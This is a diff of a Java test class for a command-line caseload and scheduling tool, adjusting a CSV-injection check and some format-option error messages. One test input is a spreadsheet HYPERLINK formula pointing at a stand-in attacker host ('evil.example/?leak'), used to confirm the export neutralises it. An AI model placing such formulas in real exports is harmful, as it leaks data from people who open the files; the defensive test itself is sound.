@@ -88,8 +88,9 @@ class HostileCommandLineTest {
                 """);
         CommandLineRun caseload = duly("caseload", file.toString(), "--as-of", "2025-01-15", "--format", "csv");
         assertThat(caseload.exitCode()).isEqualTo(ExitCode.OK);
-        assertThat(caseload.out()).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
-                .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");
+        // The overdue table: the case id is its first column.
+        assertThat(caseload.out()).contains("\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
+                .doesNotContain("\n=HYPERLINK").doesNotContain("\n\"=HYPERLINK");
         CsvInjectionTest.assertNoFormula(CsvInjectionTest.readBack(caseload.out()));
         CommandLineRun schedule = duly("schedule", file.toString(), "--as-of", "2025-01-15", "--format", "csv");
         CsvInjectionTest.assertNoFormula(CsvInjectionTest.readBack(schedule.out()));
@@ -289,8 +290,8 @@ class HostileCommandLineTest {
                 "duly: --as-of: '01/03/2025' is not a date: expected YYYY-MM-DD, such as 2024-03-27\nSee 'duly schedule --help'.\n");
         assertThat(duly("schedule", CP_CASE, "--format", "pdf").err()).isEqualTo(
                 "duly: --format: 'pdf' is not one of table, csv, json, ics, html\nSee 'duly schedule --help'.\n");
-        assertThat(duly("caseload", CP_CASE, "--format", "json").err()).startsWith(
-                "duly: --format: 'json' is not one of table, csv, html\n");
+        assertThat(duly("caseload", CP_CASE, "--format", "xml").err()).startsWith(
+                "duly: --format: 'xml' is not one of table, csv, json, html\n");
         assertThat(duly("rules", "--format", "pdf").err()).startsWith("duly: --format: 'pdf' is not one of md, csv, json\n");
         assertThat(duly("rules", "cp.icpc").err()).isEqualTo("duly: unexpected argument 'cp.icpc'\nSee 'duly rules --help'.\n");
         assertThat(duly("workdays", "shift", "2024-03-27", "5x").err()).isEqualTo(
